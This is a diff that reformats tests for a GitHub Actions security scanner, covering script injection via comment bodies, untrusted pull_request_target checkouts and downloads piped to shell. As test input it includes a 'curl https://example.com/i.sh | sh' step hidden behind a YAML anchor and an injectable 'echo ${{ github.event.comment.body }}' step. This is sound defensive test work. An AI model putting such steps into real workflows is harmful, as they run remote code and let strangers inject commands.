@@ -16,28 +16,51 @@ describeHostileFiles(profile, {
 });
 
 describe('the workflow rules', () => {
-  const workflow = (on: string, step: string) => ({ '.github/workflows/a.yml': `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - ${step}\n` });
-  const findings = async (on: string, step: string) => (await runOn(profile, workflowSecurityTools, workflow(on, step))).tool('github-actions-security').findings;
+  const workflow = (on: string, step: string) => ({
+    '.github/workflows/a.yml': `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - ${step}\n`,
+  });
+  const findings = async (on: string, step: string) =>
+    (await runOn(profile, workflowSecurityTools, workflow(on, step))).tool('github-actions-security').findings;
 
   it('call an injection critical where a stranger’s event runs with the repository’s token', async () => {
-    expect(await findings('issue_comment', 'run: echo ${{ github.event.comment.body }}')).toMatchObject([{ rule: 'script-injection', severity: 'critical', line: 7 }]);
-    expect(await findings('pull_request', 'run: echo ${{ github.head_ref }}')).toEqual([expect.not.objectContaining({ severity: 'critical' })]);
+    expect(await findings('issue_comment', 'run: echo ${{ github.event.comment.body }}')).toMatchObject([
+      { rule: 'script-injection', severity: 'critical', line: 7 },
+    ]);
+    expect(await findings('pull_request', 'run: echo ${{ github.head_ref }}')).toEqual([
+      expect.not.objectContaining({ severity: 'critical' }),
+    ]);
   });
 
-  it.each(['"pull_request_target"', '[push, pull_request_target]', '{ pull_request_target: { types: [opened] } }'])('know the trigger however it is written: %s', async (on) => {
-    expect(await findings(on, 'uses: actions/checkout@v4\n        with: { ref: "refs/pull/1/merge" }')).toMatchObject([{ rule: 'untrusted-checkout', line: 8 }]);
-  });
+  it.each(['"pull_request_target"', '[push, pull_request_target]', '{ pull_request_target: { types: [opened] } }'])(
+    'know the trigger however it is written: %s',
+    async (on) => {
+      expect(await findings(on, 'uses: actions/checkout@v4\n        with: { ref: "refs/pull/1/merge" }')).toMatchObject(
+        [{ rule: 'untrusted-checkout', line: 8 }],
+      );
+    },
+  );
 
   it('see through an anchor', async () => {
-    expect(await findings('push', '&s { run: "curl https://example.com/i.sh | sh" }\n      - *s')).toMatchObject([{ rule: 'download-piped-to-shell', line: 7 }, { rule: 'download-piped-to-shell', line: 7 }]);
+    expect(await findings('push', '&s { run: "curl https://example.com/i.sh | sh" }\n      - *s')).toMatchObject([
+      { rule: 'download-piped-to-shell', line: 7 },
+      { rule: 'download-piped-to-shell', line: 7 },
+    ]);
   });
 
-  it.each(['run: echo "${{ secrets.KEY }}" > key.pem', 'run: echo "${{ github.event.issue.number }}"', 'uses: docker://example/lint@sha256:0123'])('leave alone what is harmless: %s', async (step) => {
+  it.each([
+    'run: echo "${{ secrets.KEY }}" > key.pem',
+    'run: echo "${{ github.event.issue.number }}"',
+    'uses: docker://example/lint@sha256:0123',
+  ])('leave alone what is harmless: %s', async (step) => {
     expect(await findings('issues', step)).toEqual([]);
   });
 
   it('find nothing in YAML that is no workflow', async () => {
-    const run = await runOn(profile, workflowSecurityTools, { '.github/workflows/a.yml': '- one\n- two\n', '.github/workflows/b.yml': 'jobs: *missing\n', '.github/workflows/c.yml': 'jobs: 3\n' });
+    const run = await runOn(profile, workflowSecurityTools, {
+      '.github/workflows/a.yml': '- one\n- two\n',
+      '.github/workflows/b.yml': 'jobs: *missing\n',
+      '.github/workflows/c.yml': 'jobs: 3\n',
+    });
     expect(run.found).toEqual([]);
     expect(run.tool('github-actions-security').outcome).toEqual({ status: 'completed' });
   });
